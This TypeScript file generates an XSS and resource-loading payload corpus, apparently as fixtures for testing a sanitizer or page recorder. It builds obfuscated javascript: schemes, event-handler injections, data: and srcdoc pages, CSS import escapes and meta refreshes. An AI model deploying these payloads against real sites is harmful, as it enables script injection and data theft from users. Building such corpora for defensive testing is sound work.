type Attributes = Record<string, unknown>;
/** A tag, its attributes, and what is in it. */
export type Form = [tag: string, attributes: Attributes, children?: (string | Form)[]];

/** What a form does: `script` runs it, `url` asks for something; each names the form. */
export interface Weapons {
  script: string;
  url: string;
}
type Family = (weapons: Weapons) => Form[];

const each = <Item>(items: readonly Item[], make: (item: Item) => Form): Form[] => items.map(make);
/** Ways to write the scheme that checks by prefix overlook and browsers do not. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'vbscript:',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
  'oncanplay',
];
const RELS = [
  ...[
    'stylesheet',
    'preload',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'modulepreload',
    'icon',
    'manifest',
    'prerender',
  ],
  ...['import', 'alternate stylesheet', 'apple-touch-icon', 'PRECONNECT', 'icon preconnect', 'expect'],
];
const PROPERTIES = [
  ...[
    'background',
    'background-image',
    'list-style',
    'cursor',
    'border-image',
    'content',
    'mask',
    '-webkit-mask-image',
  ],
  ...['filter', 'clip-path', 'shape-outside', 'src', 'marker', 'fill', '--x'],
];
export const svgOf = ({ script, url }: Weapons) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><g id="a" data-hostile="" onload="${script}"><script>${script}</script>
    <image href="${url}" onerror="${script}"/><use href="${url}#a"/><style>@import "${url}"; * { fill: url(${url}) }</style>
    <foreignObject><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="${url}"/><img xmlns="http://www.w3.org/1999/xhtml" src="${url}" onerror="${script}"/>
    </foreignObject></g></svg>`;
const asEntities = (text: string) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join('');

export const FAMILIES: Record<string, Family> = {
  scripts: ({ script, url }) => [
    ['script', {}, [script]],
    ['script', { src: url }],
    ['script', { src: url, type: 'module' }],
    ['script', { type: 'text/javascript' }, [script]],
    ['script', { type: 'speculationrules' }, [`{"prefetch":[{"source":"list","urls":["${url}"]}]}`]],
    ['script', { type: 'importmap' }, [`{"imports":{"a":"${url}"}}`]],
    [
      'svg',
      {},
      [
        ['script', { href: url }],
        ['script', {}, [script]],
      ],
    ],
    ['noscript', {}, [`<img src="${url}">`]],
  ],
  handlers: ({ script, url }) =>
    HANDLERS.flatMap((name) => [
      ['img', { [name]: script, src: 'x:' }] as Form,
      ['svg', { [name]: script }] as Form,
      ['body', { [name]: script, background: url }] as Form,
      ['details', { [name]: script, open: true }] as Form,
      ['input', { [name]: script, autofocus: true }] as Form,
      ['video', { [name]: script, src: url }] as Form,
    ]),
  addresses: ({ script }) =>
    SCHEMES.flatMap((scheme) => {
      const address = `${scheme}${script}`;
      return [
        ['a', { href: address }],
        ['form', { action: address }],
        ['button', { formaction: address }],
        ['iframe', { src: address }],
        ['object', { data: address }],
        ['embed', { src: address }],
        ['svg', {}, [['a', { 'xlink:href': address }, [['animate', { attributeName: 'href', values: address }]]]]],
        ['img', { src: address }],
      ] as Form[];
    }),
  data: (weapons) => {
    const page = `data:text/html,<script>${weapons.script}</script><img src="${weapons.url}">`;
    const encoded = `data:text/html;base64,${Buffer.from(page.slice(15)).toString('base64')}`;
    const svg = `data:image/svg+xml,${encodeURIComponent(svgOf(weapons))}`;
    return [page, encoded, svg, page.replace('data', 'DATA'), page.replace('data', 'da\nta')].flatMap((address) => [
      ...each(['iframe', 'embed', 'frame', 'img', 'script'], (tag) => [tag, { src: address }]),
      ['object', { data: address }] as Form,
      ['link', { rel: 'stylesheet', href: address }] as Form,
      [
        'svg',
        {},
        [
          ['use', { href: `${address}#a` }],
          ['image', { href: address }],
        ],
      ] as Form,
      ['canvas', { rr_dataURL: address }] as Form,
    ]);
  },
  svg: ({ script, url }) => [
    [
      'svg',
      { onload: script },
      [
        ['use', { 'xlink:href': `${url}#a` }],
        ['image', { 'xlink:href': url }],
      ],
    ],
    [
      'svg',
      {},
      [
        ['feImage', { href: url }],
        ['linearGradient', { href: `${url}#g` }],
        ['textPath', { href: `${url}#p` }],
      ],
    ],
    [
      'svg',
      {},
      [
        [
          'foreignObject',
          {},
          [
            ['iframe', { src: url }],
            ['img', { src: url }],
          ],
        ],
      ],
    ],
    [
      'svg',
      {},
      [
        ['set', { attributeName: 'onmouseover', to: script }],
        ['animate', { onbegin: script, dur: '1s' }],
      ],
    ],
    ['svg', {}, [['image', { href: 'x' }, [['set', { attributeName: 'href', to: url, begin: '0s' }]]]]],
    [
      'svg',
      {},
      [
        ['style', {}, [`@import "${url}"; rect { fill: url(${url}#f) }`]],
        ['rect', { fill: `url(${url}#f)` }],
      ],
    ],
    ['math', { href: url }, [['mtext', {}, [['img', { src: url, onerror: script }]]]]],
  ],
  documents: ({ script, url }) => {
    const page = `<script>${script}</script><img src="${url}" onerror="${script}"><meta http-equiv=refresh content="0;${url}">`;
    return [page, page.toUpperCase(), asEntities(page), `<!--><svg>${page}`].flatMap((srcdoc) => [
      ['iframe', { srcdoc }],
      ['iframe', { srcdoc, sandbox: 'allow-scripts allow-same-origin allow-top-navigation' }],
      ['iframe', { srcdoc, src: url, csp: 'x', allow: '*' }],
      ['IFRAME', { SRCDOC: srcdoc }],
    ]) as Form[];
  },
  base: ({ url }) => [
    ['base', { href: url }],
    ['base', { href: url, target: '_top' }],
    ['base', { href: `${url}/` }, [['img', { src: 'relative.png' }]]],
    [
      'head',
      {},
      [
        ['base', { href: url }],
        ['link', { rel: 'stylesheet', href: 'a.css' }],
      ],
    ],
  ],
  styles: ({ url }) => [
    ...each(
      [`@import "${url}"`, `@import url(${url})`, `@IMPORT '${url}'`, `@\\69mport "${url}"`, `/**/@import/**/"${url}"`],
      (css) => ['style', {}, [`${css};`]],
    ),
    ...each(
      [`@import "${url}";`, `@font-face { font-family: x; src: url("${url}") } * { font-family: x }`],
      (_cssText) => ['style', { _cssText }],
    ),
    ...each(PROPERTIES, (name) => ['p', { style: `${name}: url(${url})` }]),
    ...each(PROPERTIES, (name) => ['p', { style: `${name}: image-set("${url}" 1x)` }]),
    ...each(PROPERTIES, (name) => ['p', { style: `${name}: u\\72l("${url}")` }]),
    ...each(PROPERTIES, (name) => ['style', {}, [`* { ${name}: URL( "${url}" ) } *::after { content: url(${url}) }`]]),
  ],
  links: ({ url }) =>
    RELS.flatMap((rel) => [
      ['link', { rel, href: url }] as Form,
      ['link', { rel, href: url, as: 'image', imagesrcset: `${url} 1x` }] as Form,
      ['a', { rel, href: url, ping: url, attributionsrc: url }] as Form,
    ]),
  refreshes: ({ script, url }) =>
    ['refresh', 'Refresh', 'REFRESH', 'set-cookie', 'Content-Security-Policy', 'content-type'].flatMap((name) => [
      ['meta', { 'http-equiv': name, content: `0;url=${url}` }] as Form,
      ['META', { 'HTTP-EQUIV': name, CONTENT: `0; ${url}` }] as Form,
      ['meta', { 'http-equiv': name, content: `0;url=javascript:${script}` }] as Form,
    ]),
  forms: ({ script, url }) => [
    ['form', { action: url, method: 'post', id: 'f' }, [['input', { type: 'submit', autofocus: true }]]],
    ['form', { action: url, target: '_top' }, [['input', { type: 'image', src: url }]]],
    ['button', { formaction: url, form: 'f', autofocus: true }, ['Go']],
    ['input', { type: 'image', src: url, formaction: url }],
    ['isindex', { action: url }],
    ['dialog', { open: true, rr_open_mode: 'modal' }, [['form', { action: url, method: 'dialog' }]]],
    ['input', { autofocus: true, onfocus: script }],
  ],
  media: ({ url }) => [
    ...each(
      ['img', 'input', 'video', 'audio', 'embed', 'iframe', 'frame', 'track', 'bgsound', 'portal', 'fencedframe'],
      (tag) => [tag, { src: url, type: 'image' }],
    ),
    ['img', { srcset: `${url} 1x, ${url}?2 2x`, sizes: '100vw' }],
    ['img', { loading: 'eager', lowsrc: url, dynsrc: url, longdesc: url }],
    [
      'picture',
      {},
      [
        ['source', { srcset: url }],
        ['img', { src: url }],
      ],
    ],
    [
      'video',
      { poster: url, autoplay: true },
      [
        ['source', { src: url }],
        ['track', { src: url, default: true, kind: 'captions' }],
      ],
    ],
    ['object', { data: url, classid: url, codebase: url, archive: url }, [['param', { name: 'movie', value: url }]]],
    ['applet', { code: url, archive: url }],
    ['table', { background: url }, [['td', { background: url }]]],
    ['html', { manifest: url }],
    ['img', { rr_dataURL: url, src: 'x:' }],
  ],
};
